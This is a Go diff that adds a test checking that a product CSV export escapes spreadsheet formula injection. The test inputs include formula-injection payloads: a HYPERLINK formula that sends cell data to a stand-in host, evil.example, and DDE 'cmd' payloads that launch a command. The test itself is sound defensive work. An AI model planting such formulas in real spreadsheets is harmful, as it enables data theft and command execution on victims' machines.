@@ -3,6 +3,7 @@ package fileshop_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"os"
 	"path/filepath"
 	"strings"
@@ -143,4 +144,34 @@ func TestALibraryKeepsOnlyExports(t *testing.T) {
 	require.Equal(t, export, string(kept))
 	require.NoError(t, l.Remove("f1"))
 	require.NoError(t, l.Remove("f1"))
+}
+
+// No cell of the file begins as a formula does, and each text is read back as
+// it was published.
+func TestTheExportRunsNoFormulas(t *testing.T) {
+	for _, text := range []string{
+		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+		"@import", "'=1+1", "''=1+1", "'", "'90s lamp", "=", "a\n=1+1", "\"=1+1", ",=1+1", ";=1+1",
+	} {
+		c, _, _ := open(t)
+		for _, f := range []galley.Field{galley.FieldTitle, galley.FieldDescription, galley.FieldSEOTitle, galley.FieldMetaDescription} {
+			write(t, c, f, "lamp", "", text)
+		}
+		write(t, c, galley.FieldAltText, "lamp", "1", text)
+		var file bytes.Buffer
+		_, err := c.Export(bg, &file)
+		require.NoError(t, err)
+		records, err := csv.NewReader(bytes.NewReader(file.Bytes())).ReadAll()
+		require.NoError(t, err)
+		for _, record := range records {
+			for _, cell := range record {
+				require.NotRegexp(t, "^[=+\\-@\t\r]", cell)
+			}
+		}
+		products, err := productcsv.Read("export.csv", bytes.NewReader(file.Bytes()))
+		require.NoError(t, err)
+		got := products[0]
+		require.Equal(t, []string{text, text, text, text, text}, []string{got.Title, got.BodyHTML, got.SEOTitle, got.SEODescription, got.Images[0].Alt})
+		require.Equal(t, "Side view.", got.Images[1].Alt)
+	}
 }
